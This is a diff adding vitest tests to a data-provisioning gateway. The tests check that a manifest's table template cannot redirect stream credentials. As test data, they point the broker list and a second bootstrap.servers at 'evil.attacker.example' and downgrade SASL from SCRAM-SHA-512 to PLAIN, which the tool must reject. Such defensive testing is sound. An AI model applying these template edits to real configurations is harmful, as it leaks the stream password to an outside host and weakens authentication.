@@ -4,12 +4,12 @@
  * token anywhere the run's own settings do not name — unless the person running allows
  * it with a flag.
  */
-import { existsSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { TRACK_GROUP } from '../../src/sandbox/sandbox.js';
 import { startRecordingServer } from '../helpers/recording-server.js';
-import { spawnDpgw } from '../helpers/run-dpgw.js';
+import { ROOT, spawnDpgw } from '../helpers/run-dpgw.js';
 import { adminPipelineEnv } from '../helpers/sandbox-http.js';
 import { sandboxPerTest } from '../helpers/sandbox-per-test.js';
 import { trackSchemaBeside } from '../helpers/track.js';
@@ -148,5 +148,49 @@ describe('a manifest from a pull request stays inside its run', () => {
     expect(JSON.parse(result.stdout).dataSets[0].status).toBe('done');
     expect(result.stdout + result.stderr).not.toContain(sandbox.stream.password);
     expect(gatewayLog().some((e) => e.method === 'POST' && e.path.endsWith('/tables'))).toBe(true);
+  });
+});
+
+describe("a manifest's own table template", () => {
+  const templateBeside = (folder: string, edit: (text: string) => string) => {
+    writeFileSync(join(folder, 'tpl.yaml'), edit(readFileSync(join(ROOT, 'templates/realtime-table.yaml'), 'utf8')));
+  };
+  const manifestWith = (folder: string) => {
+    const file = join(folder, 'provision.yaml');
+    writeFileSync(file, `dataSets:\n  - { datasource: mock-data-library, dataset: track, groups: [${TRACK_GROUP}], schema: track-schema.yaml, table: { name: track, template: tpl.yaml } }\n`);
+    return file;
+  };
+
+  it('may not choose where the store connects with the stream password: other brokers, a weaker mechanism, a second map of stream configs', async () => {
+    const { dpgw, folder, gatewayLog } = await setUp();
+    templateBeside(folder, (text) =>
+      text
+        .replace('stream.${streamType}.broker.list: ${brokerList}', 'stream.${streamType}.broker.list: evil.attacker.example:9092')
+        .replace('sasl.mechanism: SCRAM-SHA-512', 'sasl.mechanism: PLAIN')
+        .replace('ingestionConfig:\n', 'ingestionConfig:\n  streamIngestionConfig:\n    streamConfigMaps:\n      - { bootstrap.servers: "evil.attacker.example:9093" }\n'),
+    );
+    const file = manifestWith(folder);
+    for (const args of [['--plan'], []]) {
+      const result = await dpgw(['provision', file, ...args]);
+      expect(result.code, result.stderr).toBe(2);
+      const lines = result.stderr.trimEnd().split('\n');
+      expect(lines).toHaveLength(3);
+      // Each at the data set's line, with the template's own file:line:column.
+      expect(lines[0]).toMatch(/provision\.yaml:2:\d+: dataSets\[0\]\.dataset: data set track: the manifest's template sets stream\.mq\.broker\.list to "evil\.attacker\.example:9092", not the run's "127\.0\.0\.1:\d+": where and how the store connects with the stream password is the run's to choose \(pass --allow-manifest-endpoints to let the manifest choose it\) \(.*tpl\.yaml:24:\d+: tableIndexConfig\.streamConfigs\.stream\.mq\.broker\.list\)/);
+      expect(lines[1]).toMatch(/sasl\.mechanism to "PLAIN", not the run's "SCRAM-SHA-512".* \(.*tpl\.yaml:30:\d+: tableIndexConfig\.streamConfigs\.sasl\.mechanism\)$/);
+      expect(lines[2]).toMatch(/the manifest's template sets bootstrap\.servers outside tableIndexConfig\.streamConfigs.* \(.*tpl\.yaml:36:\d+: ingestionConfig\.streamIngestionConfig\.streamConfigMaps\[0\]\.bootstrap\.servers\)$/);
+    }
+    expect(gatewayLog()).toEqual([]);
+    // The person running it may allow it, as for the manifest's endpoint settings.
+    const allowed = await dpgw(['provision', file, '--plan', '--allow-manifest-endpoints']);
+    expect(allowed.stderr).not.toContain("the manifest's template");
+  });
+
+  it('may tune what is not the connection (a flush threshold, the offset reset): planned as usual', async () => {
+    const { dpgw, folder } = await setUp();
+    templateBeside(folder, (text) => text.replace('consumer.prop.auto.offset.reset: smallest', 'consumer.prop.auto.offset.reset: largest\n    realtime.segment.flush.threshold.rows: "50000"'));
+    const result = await dpgw(['provision', manifestWith(folder), '--plan']);
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout).toContain('realtime.segment.flush.threshold.rows');
   });
 });
